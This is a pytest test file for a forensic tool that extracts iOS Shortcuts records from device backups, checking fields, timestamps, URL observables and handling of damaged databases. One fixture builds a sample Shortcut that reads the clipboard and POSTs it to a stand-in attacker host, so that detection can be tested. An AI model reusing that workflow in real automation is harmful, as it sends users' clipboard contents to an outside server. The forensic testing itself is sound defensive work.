from __future__ import annotations

import plistlib
import sqlite3
from pathlib import Path

import pytest

from perito.artifacts.base import SchemaMismatch
from perito.artifacts.ios.shortcuts import ARTIFACT, IosShortcut, parse_actions, strings_in
from perito.records import Kind, from_dict, observables, to_dict
from perito.sources.sqlite import NotADatabase
from perito.timestamps import Encoding, TimeState
from tests.builders.ios.shortcuts import ShortcutRow, action, actions_blob, shortcuts_db
from tests.builders.ios_backup import BackupBuilder
from tests.helpers import extract

T0 = 1_709_154_845  # 2024-02-28T21:14:05Z
DB = ("HomeDomain", "Library/Shortcuts/Shortcuts.sqlite")

EXFIL = actions_blob([
    action("is.workflow.actions.getclipboard"),
    action("is.workflow.actions.downloadurl",
           WFURL="https://collect.evil.example.com/up?id=1",
           WFHTTPMethod="POST",
           WFJSONValues={"Value": {"WFDictionaryFieldValueItems": [
               {"WFKey": "next", "WFValue": {"Value": {
                   "string": "then go to http://second.example.net/x, ok",
                   "attachmentsByRange": {}}}}]}}),
    action("is.workflow.actions.openurl",
           WFInput={"Value": {"string": "https://collect.evil.example.com/up?id=1"}}),
])
ROWS = [
    ShortcutRow("Enviar portapapeles", T0, T0 + 60, "Get Clipboard, Get Contents of URL",
                EXFIL, associated_app="com.example.helper", last_run=T0 + 120),
    ShortcutRow("Modo avión", T0 + 10, None, "Set Airplane Mode",
                actions_blob([action("is.workflow.actions.airplanemode.set", OnValue=True)])),
    ShortcutRow(b"Nota r\xc3\xa1pida", T0 + 20, T0 + 30, None,
                actions_blob([action("is.workflow.actions.shownote")])),  # name as a BLOB
    ShortcutRow("Sin acciones", None, None, None, None),  # no ZSHORTCUTACTIONS row
    ShortcutRow("Roto", T0 + 40, None, None, b"bplist00\xff\xff not a plist"),
    ShortcutRow("Diccionario", T0 + 50, None, None,
                plistlib.dumps({"WFWorkflowActions": []}, fmt=plistlib.FMT_BINARY)),
]


def _backup(tmp_path: Path, rows: list[ShortcutRow] = ROWS) -> Path:
    builder = BackupBuilder()
    builder.add_sqlite(*DB, shortcuts_db(rows))
    return builder.write(tmp_path / "backup")


def _shortcuts(root: Path) -> tuple[list[IosShortcut], list[str]]:
    records, notes = extract(root, ARTIFACT)
    return [r for r in records if isinstance(r, IosShortcut)], notes


def test_one_record_per_shortcut(tmp_path: Path) -> None:
    found, notes = _shortcuts(_backup(tmp_path))
    assert [s.shortcut_id for s in found] == [1, 2, 3, 4, 5, 6]
    assert notes == ["2 shortcuts have action data that is not a readable plist array; their "
                     "URLs are not checked"]


def test_fields_actions_and_urls(tmp_path: Path) -> None:
    exfil, airplane, note, empty, broken, wrong = _shortcuts(_backup(tmp_path))[0]
    assert exfil.source == "HomeDomain/Library/Shortcuts/Shortcuts.sqlite"
    assert exfil.name == "Enviar portapapeles"
    assert exfil.description == "Get Clipboard, Get Contents of URL"
    assert exfil.created_date.encoding is Encoding.COCOA_S
    assert exfil.created_date.iso() == "2024-02-28T21:14:05.000000+00:00"
    assert exfil.modified_date.iso() == "2024-02-28T21:15:05.000000+00:00"
    assert exfil.last_run_date.iso() == "2024-02-28T21:16:05.000000+00:00"
    assert exfil.action_count == 3 and exfil.parsed_actions == 3 and exfil.actions_readable
    assert exfil.action_identifiers == ("is.workflow.actions.getclipboard",
                                        "is.workflow.actions.downloadurl",
                                        "is.workflow.actions.openurl")
    # In plist order (keys sorted), raw: the matcher strips the sentence's ",".
    assert exfil.action_urls == ("http://second.example.net/x,",
                                 "https://collect.evil.example.com/up?id=1")
    assert exfil.associated_app == "com.example.helper"
    assert exfil.workflow_id == "9A8B7C6D-0000-4000-8000-000000000001"
    assert airplane.action_urls == () and airplane.modified_date.state is TimeState.UNSET
    assert note.name == "Nota rápida"  # a BLOB decoded as UTF-8
    assert empty.actions_readable is False and empty.parsed_actions == 0
    assert empty.created_date.state is TimeState.UNSET
    assert broken.actions_readable is False and broken.action_urls == ()
    assert wrong.actions_readable is False  # a dict, not the array of actions


def test_observables_and_describe(tmp_path: Path) -> None:
    exfil, airplane, *_ = _shortcuts(_backup(tmp_path))[0]
    found = {(kind, value) for _n, kind, value in observables(exfil)}
    assert found == {(Kind.URL, "https://collect.evil.example.com/up?id=1"),
                     (Kind.URL, "http://second.example.net/x,"),
                     (Kind.APP_ID, "com.example.helper")}
    assert exfil.describe() == ("iOS Shortcut 'Enviar portapapeles': Get Clipboard, Get "
                                "Contents of URL - URLs in actions: "
                                "http://second.example.net/x,, "
                                "https://collect.evil.example.com/up?id=1")
    assert airplane.describe() == "iOS Shortcut 'Modo avión': Set Airplane Mode"


def test_records_round_trip(tmp_path: Path) -> None:
    for shortcut in _shortcuts(_backup(tmp_path))[0]:
        assert from_dict(to_dict(shortcut)) == shortcut


def test_empty_database(tmp_path: Path) -> None:
    found, notes = _shortcuts(_backup(tmp_path, []))
    assert found == [] and notes == []


def test_without_actions_table(tmp_path: Path) -> None:
    def fill(db: sqlite3.Connection) -> None:
        shortcuts_db(ROWS)(db)
        db.executescript("DROP TABLE ZSHORTCUTACTIONS; "
                         "ALTER TABLE ZSHORTCUT DROP COLUMN ZACTIONSDESCRIPTION;")

    builder = BackupBuilder()
    builder.add_sqlite(*DB, fill)
    found, notes = _shortcuts(builder.write(tmp_path / "backup"))
    assert len(found) == len(ROWS) and notes == []
    assert all(s.description is None and s.action_urls == () for s in found)


def test_foreign_database_is_a_schema_mismatch(tmp_path: Path) -> None:
    def fill(db: sqlite3.Connection) -> None:
        db.execute("CREATE TABLE ZSHORTCUT (Z_PK INTEGER PRIMARY KEY, ZTITLE VARCHAR)")

    builder = BackupBuilder()
    builder.add_sqlite(*DB, fill)
    with pytest.raises(SchemaMismatch) as caught:
        extract(builder.write(tmp_path / "backup"), ARTIFACT)
    assert caught.value.missing == ["ZSHORTCUT.ZNAME"]


def test_garbage_and_damaged_files(tmp_path: Path) -> None:
    builder = BackupBuilder()
    builder.add_file(*DB, b"\x00" * 64)
    with pytest.raises(NotADatabase):
        extract(builder.write(tmp_path / "a"), ARTIFACT)
    builder = BackupBuilder()
    builder.add_file(*DB, b"SQLite format 3\x00" + b"\x01" * 2000)
    with pytest.raises(sqlite3.DatabaseError):
        extract(builder.write(tmp_path / "b"), ARTIFACT)


def test_parse_actions_edge_cases() -> None:
    assert parse_actions(None) == (False, [], [])
    assert parse_actions(b"") == (False, [], [])
    assert parse_actions("text") == (False, [], [])
    blob = actions_blob([{"WFWorkflowActionIdentifier": 7}, "not a dict",
                         action("is.workflow.actions.url", WFURLActionURL="https://a.example/")])
    assert parse_actions(blob) == (True, ["", "is.workflow.actions.url"], ["https://a.example/"])


def test_strings_in_walks_keys_values_and_depth() -> None:
    value = {"https://key.example/": [1, "https://x.example/", {"k": ("t",)}], "n": None}
    assert list(strings_in(value)) == ["https://key.example/", "https://x.example/", "k", "t",
                                       "n"]
    deep: object = "https://deep.example/"
    for _ in range(100):
        deep = [deep]
    assert list(strings_in(deep)) == []  # beyond the depth limit
